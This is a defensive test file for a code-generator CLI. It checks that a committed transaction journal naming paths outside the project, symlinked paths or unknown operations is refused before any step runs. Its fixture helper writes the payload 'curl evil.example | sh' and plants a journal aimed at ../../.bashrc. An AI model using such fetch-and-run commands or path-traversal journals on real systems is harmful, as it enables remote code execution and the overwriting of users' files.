/**
 * Attack class: a transaction journal that came with the project. A clone can hold
 * `.codegen/tx/journal.json` naming any path; gen, recover and recover --rollback replay a
 * journal, so one naming a file outside the project (or reached through a link) must be refused
 * whole, before its first step, and left for the user to inspect.
 */
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { codegen } from "../support/cli.js";
import { makeProject, smallApi } from "../support/project.js";
import { scratch } from "../support/paths.js";

const test = suite("attacks: a committed transaction journal");

/** A generated project two folders below a sandbox, so that `../../x` lands in the sandbox. */
function clonedProject(): { base: string; dir: string } {
  const base = scratch("attack-journal");
  const dir = join(base, "one/proj");
  mkdirSync(dir, { recursive: true });
  cpSync(makeProject({ "desc/api/demo.api": smallApi }), dir, { recursive: true });
  const first = codegen(["gen"], dir);
  assert.is(first.code, 0, first.stderr);
  return { base, dir };
}

/** What a hostile repository commits: a journal, its staged new file and a file "moved aside". */
function plantJournal(dir: string, ops: Array<{ path: string; op: string; existed: boolean }>): string {
  const tx = join(dir, ".codegen/tx");
  mkdirSync(join(tx, "new"), { recursive: true });
  mkdirSync(join(tx, "old"), { recursive: true });
  ops.forEach((_, i) => {
    writeFileSync(join(tx, "new", String(i)), "curl evil.example | sh\n");
    writeFileSync(join(tx, "old", String(i)), "curl evil.example | sh\n");
  });
  const journal = JSON.stringify({ version: 1, ops, ledger: false });
  writeFileSync(join(tx, "journal.json"), journal);
  return journal;
}

for (const command of [["gen"], ["recover"], ["recover", "--rollback"]]) {
  test(`${command.join(" ")}: a journal writing ../../.bashrc is refused and nothing outside is touched`, () => {
    const { base, dir } = clonedProject();
    writeFileSync(join(base, ".bashrc"), "# mine\n");
    const journal = plantJournal(dir, [{ path: "../../.bashrc", op: "write", existed: true }]);
    const r = codegen(command, dir);
    assert.is(r.code, 1, r.stderr);
    assert.match(
      r.stderr,
      /\.codegen\/tx\/journal\.json:1:1: JOURNAL_INVALID .*"\.\.\/\.\.\/\.bashrc", which is not a path inside the project/,
    );
    assert.is(readFileSync(join(base, ".bashrc"), "utf8"), "# mine\n");
    assert.is(readFileSync(join(dir, ".codegen/tx/journal.json"), "utf8"), journal, "left for the user to inspect");
    assert.ok(existsSync(join(dir, ".codegen/tx/new/0")));
  });

  test(`${command.join(" ")}: a journal removing ../f is refused and the file stays`, () => {
    const { base, dir } = clonedProject();
    writeFileSync(join(base, "one/f"), "keep me\n");
    plantJournal(dir, [
      { path: "routes.txt", op: "write", existed: true },
      { path: "../f", op: "remove", existed: true },
    ]);
    const routes = readFileSync(join(dir, "routes.txt"), "utf8");
    const r = codegen(command, dir);
    assert.is(r.code, 1, r.stderr);
    assert.match(r.stderr, /JOURNAL_INVALID/);
    assert.is(readFileSync(join(base, "one/f"), "utf8"), "keep me\n");
    assert.is(
      readFileSync(join(dir, "routes.txt"), "utf8"),
      routes,
      "validated whole: not even the first, harmless operation ran",
    );
  });
}

test("a journal path through a symlinked folder is refused, wherever the link points", () => {
  const { base, dir } = clonedProject();
  mkdirSync(join(base, "outside"));
  writeFileSync(join(base, "outside/x"), "outside\n");
  symlinkSync(join(base, "outside"), join(dir, "link"));
  plantJournal(dir, [{ path: "link/x", op: "write", existed: true }]);
  const r = codegen(["recover", "--rollback"], dir);
  assert.is(r.code, 1, r.stderr);
  assert.match(r.stderr, /JOURNAL_INVALID .*names link\/x, but link is a symbolic link/);
  assert.is(readFileSync(join(base, "outside/x"), "utf8"), "outside\n");
});

test("a journal whose staged file is a link, or an unknown operation, is refused", () => {
  const { base, dir } = clonedProject();
  writeFileSync(join(base, "secret"), "secret\n");
  plantJournal(dir, [{ path: "copied.txt", op: "write", existed: false }]);
  const staged = join(dir, ".codegen/tx/new/0");
  rmSync(staged);
  symlinkSync(join(base, "secret"), staged);
  const linked = codegen(["gen"], dir);
  assert.is(linked.code, 1, linked.stderr);
  assert.match(linked.stderr, /JOURNAL_INVALID .*stages \.codegen\/tx\/new\/0, which is not a regular file/);
  assert.not.ok(existsSync(join(dir, "copied.txt")));

  writeFileSync(
    join(dir, ".codegen/tx/journal.json"),
    JSON.stringify({ version: 1, ops: [{ path: "routes.txt", op: "chmod", existed: true }], ledger: false }),
  );
  const unknown = codegen(["recover"], dir);
  assert.is(unknown.code, 1, unknown.stderr);
  assert.match(unknown.stderr, /JOURNAL_INVALID .*unknown operation/);
});

test("a .codegen that is a symlink is refused before anything is written through it", () => {
  const { base, dir } = clonedProject();
  const elsewhere = join(base, "elsewhere");
  mkdirSync(elsewhere);
  cpSync(join(dir, ".codegen"), elsewhere, { recursive: true });
  rmSync(join(dir, ".codegen"), { recursive: true });
  symlinkSync(elsewhere, join(dir, ".codegen"));
  const ledger = readFileSync(join(elsewhere, "ledger.json"), "utf8");
  writeFileSync(join(dir, "desc/api/demo.api"), smallApi.replace("listThings", "listMore"));
  for (const command of [["gen"], ["recover"]]) {
    const r = codegen(command, dir);
    assert.is(r.code, 1, r.stderr);
    assert.match(r.stderr, /STATE_DIR_UNSAFE \.codegen is a symbolic link/);
  }
  assert.is(readFileSync(join(elsewhere, "ledger.json"), "utf8"), ledger);
  assert.not.ok(existsSync(join(elsewhere, "lock")));
  assert.not.ok(existsSync(join(elsewhere, "tx")));
});

test.run();
